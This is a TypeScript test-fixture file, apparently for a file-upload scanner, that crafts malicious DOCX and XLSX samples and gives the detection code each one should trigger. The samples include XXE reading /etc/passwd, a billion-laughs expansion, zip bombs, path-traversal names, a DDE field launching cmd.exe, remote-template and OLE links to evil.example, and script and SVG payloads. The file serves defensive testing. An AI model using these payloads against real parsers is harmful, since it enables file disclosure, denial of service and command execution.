import { type CraftedEntry, type CraftedShape, craftZip } from "../../archives/crafted-zip.ts";
import { EICAR, type Sample } from "./sample.ts";

const WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
const RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const XXE = '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
const LAUGHS = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, at) => `<!ENTITY a${at} "&a${at - 1};&a${at - 1};">`).join("")}]>`;

function contentTypes(type: string): string {
  return `<Types><Default Extension="xml" ContentType="application/xml"/><Override PartName="/main.xml" ContentType="${type}"/></Types>`;
}

function relations(kind: string, target: string, mode = "External"): string {
  return `<Relationships><Relationship Id="rId1" Type="${RELATIONS}/${kind}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
}

export const DOCX_PARTS: readonly CraftedEntry[] = [
  { name: "[Content_Types].xml", data: contentTypes(WORD) },
  { name: "_rels/.rels", data: relations("officeDocument", "word/document.xml", "Internal") },
  {
    name: "word/document.xml",
    data: "<w:document xmlns:w='w'><w:body><w:p><w:r><w:t>村民会议通知</w:t></w:r></w:p></w:body></w:document>",
  },
  { name: "word/_rels/document.xml.rels", data: relations("hyperlink", "https://example.org/") },
];

const XLSX_PARTS: readonly CraftedEntry[] = [
  { name: "[Content_Types].xml", data: contentTypes(SHEET) },
  { name: "xl/workbook.xml", data: "<workbook/>" },
  { name: "xl/worksheets/sheet1.xml", data: "<worksheet><sheetData/></worksheet>" },
  { name: "xl/printerSettings/printerSettings1.bin", data: Buffer.from([1, 0, 2, 0]) },
];

export const GOOD_DOCX = craftZip(DOCX_PARTS);
export const GOOD_XLSX = craftZip(XLSX_PARTS);

/** A good document with parts put in or put in the place of others. */
function docx(parts: readonly CraftedEntry[], shape?: CraftedShape): Buffer {
  return craftZip([...DOCX_PARTS.filter((part) => !parts.some((other) => other.name === part.name)), ...parts], shape);
}

function xlsx(parts: readonly CraftedEntry[]): Buffer {
  return craftZip([...XLSX_PARTS.filter((part) => !parts.some((other) => other.name === part.name)), ...parts]);
}

const DDE_RUNS = ["D", "DEA", "UTO c:\\\\windows\\\\system32\\\\cmd.exe"]
  .map((run) => `<w:r><w:instrText>${run}</w:instrText></w:r>`)
  .join("");

type Case = readonly [about: string, bytes: Buffer, expected: string];

const ZIPS: readonly Case[] = [
  ["bomb: 150 MB of nothing", docx([{ name: "word/media/a.bmp", data: Buffer.alloc(150_000_000) }]), "archive-bomb"],
  ["bomb: 300 MB in small parts", docx(manyBlank(300, 1_000_000)), "archive-unpacked"],
  ["1,001 entries", docx(manyBlank(997, 0)), "archive-entries"],
  ["entries over each other", docx([{ name: "word/a.xml", data: "x" }], { overlap: true }), "archive-bomb"],
  ["nested zip as a picture", docx([{ name: "word/media/image1.png", data: GOOD_DOCX, stored: true }]), "archive-nested"],
  ["nested zip", docx([{ name: "word/inner.zip", data: GOOD_DOCX }]), "document-part"],
  ["embedded document", docx([{ name: "word/embeddings/a.docx", data: GOOD_DOCX }]), "document-active"],
  ["program as a picture", docx([{ name: "word/media/image1.jpeg", data: "MZ\u0090\u0000" }]), "archive-nested"],
  ["slip upwards", docx([{ name: "../../../etc/cron.d/x.xml", data: "x" }]), "archive-escapes"],
  ["slip to the root", docx([{ name: "/etc/cron.d/x.xml", data: "x" }]), "archive-escapes"],
  ["slip by backslash", docx([{ name: "word\\..\\..\\x.xml", data: "x" }]), "archive-escapes"],
  ["symbolic link", docx([{ name: "word/link.xml", data: "/etc/passwd", mode: 0o120777 }]), "archive-link"],
  ["encrypted part", docx([{ name: "word/secret.xml", data: "x", encrypted: true }]), "archive-encrypted"],
  ["size denied", docx([{ name: "word/a.xml", data: Buffer.alloc(50_000_000), claimedSize: 10 }]), "archive-damaged"],
  ["checksum wrong", docx([{ name: "word/a.xml", data: "<a/>", claimedCrc: 1 }]), "archive-damaged"],
  ["comment with a page", docx([], { comment: "<html><script>alert(1)</script>" }), "archive-mixed"],
  ["page before it", docx([], { before: Buffer.from("<html><script>alert(1)</script></html>") }), "file-extension"],
  ["zip before it", docx([], { before: craftZip([{ name: "a", data: "b" }]) }), "archive-mixed"],
  ["two parts of one name", craftZip([...DOCX_PARTS, { name: "Word/Document.xml", data: "<a/>" }]), "archive-damaged"],
  ["cut short", GOOD_DOCX.subarray(0, -30), "archive-damaged"],
  ["any zip", craftZip([{ name: "a.txt", data: "b" }]), "file-extension"],
  ["a table called a document", GOOD_XLSX, "file-extension"],
];

const DOCUMENTS: readonly Case[] = [
  ["XXE in the text", docx([{ name: "word/document.xml", data: `${XXE}<document>&x;</document>` }]), "archive-doctype"],
  ["XXE in relations", docx([{ name: "word/_rels/document.xml.rels", data: `${XXE}<Relationships/>` }]), "archive-doctype"],
  ["XXE in content types", docx([{ name: "[Content_Types].xml", data: `${XXE}${contentTypes(WORD)}` }]), "archive-doctype"],
  [
    "XXE in custom XML",
    docx([{ name: "customXml/item1.xml", data: `<?xml version="1.0"?>\n<!-- a -->${XXE}<a/>` }]),
    "archive-doctype",
  ],
  ["a billion laughs", docx([{ name: "word/document.xml", data: `${LAUGHS}<document>&a19;</document>` }]), "archive-doctype"],
  [
    "XXE in UTF-16",
    docx([{ name: "word/document.xml", data: Buffer.from(`\ufeff${XXE}<document/>`, "utf16le") }]),
    "archive-damaged",
  ],
  [
    "macros under another name",
    docx([{ name: "[Content_Types].xml", data: contentTypes("application/vnd.ms-word.document.macroEnabled.main+xml") }]),
    "document-active",
  ],
  ["macros beside", docx([{ name: "word/vbaProject.bin", data: "x" }]), "document-active"],
  ["ActiveX", docx([{ name: "word/activeX/activeX1.xml", data: "<ax/>" }]), "document-active"],
  [
    "template from outside",
    docx([{ name: "word/_rels/settings.xml.rels", data: relations("attachedTemplate", "https://evil.example/t.dotm") }]),
    "document-outside",
  ],
  [
    "object from outside",
    docx([{ name: "word/_rels/document.xml.rels", data: relations("oleObject", "https://evil.example/o") }]),
    "document-outside",
  ],
  [
    "picture from outside",
    docx([{ name: "word/_rels/document.xml.rels", data: relations("image", "https://evil.example/pixel.png") }]),
    "document-outside",
  ],
  [
    "DDE spread over runs",
    docx([{ name: "word/document.xml", data: `<w:document xmlns:w="w">${DDE_RUNS}</w:document>` }]),
    "document-active",
  ],
  [
    "DDE in a simple field",
    docx([{ name: "word/document.xml", data: '<w:document xmlns:w="w"><w:fldSimple w:instr=" DDE cmd "/></w:document>' }]),
    "document-active",
  ],
  ["page as a part", docx([{ name: "word/afchunk.html", data: "<script>alert(1)</script>" }]), "document-part"],
  ["SVG as a part", docx([{ name: "word/media/a.svg", data: "<svg onload='alert(1)'/>" }]), "document-part"],
];

const TABLES: readonly Case[] = [
  ["XXE in strings", xlsx([{ name: "xl/sharedStrings.xml", data: `${XXE}<sst/>` }]), "archive-doctype"],
  [
    "macros under another name",
    xlsx([{ name: "[Content_Types].xml", data: contentTypes("application/vnd.ms-excel.sheet.macroEnabled.main+xml") }]),
    "document-active",
  ],
  ["Excel 4 macros", xlsx([{ name: "xl/macrosheets/sheet1.xml", data: "<a/>" }]), "document-active"],
  [
    "DDE link",
    xlsx([{ name: "xl/externalLinks/externalLink1.xml", data: '<externalLink><ddeLink ddeService="cmd"/></externalLink>' }]),
    "document-outside",
  ],
  ["EICAR packed", xlsx([{ name: "xl/comments1.xml", data: `<comments>${EICAR}</comments>` }]), "file-infected"],
];

function manyBlank(count: number, bytes: number): readonly CraftedEntry[] {
  return Array.from({ length: count }, (_, at) => ({ name: `word/media/${at}.bmp`, data: Buffer.alloc(bytes) }));
}

export const OFFICE_SAMPLES: readonly Sample[] = [
  ...[...ZIPS, ...DOCUMENTS].map(([about, bytes, expected]) => ({ about: `DOCX, ${about}`, name: "通知.docx", bytes, expected })),
  ...TABLES.map(([about, bytes, expected]) => ({ about: `XLSX, ${about}`, name: "名册.xlsx", bytes, expected })),
];
